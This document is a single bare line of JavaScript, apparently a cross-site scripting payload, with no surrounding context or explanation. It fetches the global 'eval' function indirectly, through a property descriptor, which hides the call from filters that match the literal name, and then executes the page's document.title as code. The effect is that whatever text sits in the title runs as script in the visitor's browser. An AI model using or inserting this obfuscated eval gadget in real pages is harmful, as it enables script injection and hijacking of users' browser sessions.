Object.getOwnPropertyDescriptor(globalThis, 'eval').value(document.title);
